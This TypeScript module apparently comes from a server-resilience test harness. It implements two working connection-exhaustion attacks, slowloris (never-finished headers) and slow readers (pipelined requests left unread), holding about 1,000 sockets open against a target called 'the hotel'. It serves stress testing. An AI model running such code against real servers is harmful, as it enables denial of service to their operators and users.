import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { openSocket } from '../client.ts';
import { type Attack, attackerAddress } from './attack.ts';

const CLIENTS = 1_000;

/** Keeps `CLIENTS` connections open, and reopens those that the hotel closes. */
async function keepOpen(
  open: (i: number) => Socket,
  signal: AbortSignal,
): Promise<{ open: number; closed: number }> {
  const sockets = new Map<number, Socket>();
  let closed = 0;
  while (!signal.aborted) {
    for (let i = 0; i < CLIENTS && !signal.aborted; i++) {
      if (sockets.get(i)?.destroyed === false) continue;
      if (sockets.has(i)) closed++;
      sockets.set(i, open(i));
      if (i % 50 === 0) await sleep(5);
    }
    await sleep(250, undefined, { signal }).catch(() => {});
  }
  const left = [...sockets.values()].filter(({ destroyed }) => !destroyed);
  for (const socket of sockets.values()) socket.destroy();
  return { open: left.length, closed };
}

/** Clients that fetch a picture twenty times on each connection, and read none. */
export const slowReaders: Attack = async ({ port, picture }, signal) => {
  const fetches = `GET ${picture} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(20);
  const { open, closed } = await keepOpen((i) => openSocket(port, attackerAddress(i), fetches), signal);
  return { achieved: `${open} connections open at the end, ${closed} closed by the hotel` };
};

/** Clients that never finish their headers. */
export const slowLoris: Attack = async ({ port }, signal) => {
  const start = (i: number) => {
    const socket = openSocket(port, attackerAddress(i), 'GET / HTTP/1.1\r\nHost: x\r\n');
    const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), 1_000);
    socket.resume().once('close', () => clearInterval(timer));
    return socket;
  };
  const { open, closed } = await keepOpen(start, signal);
  return { achieved: `${open} connections open at the end, ${closed} closed by the hotel` };
};
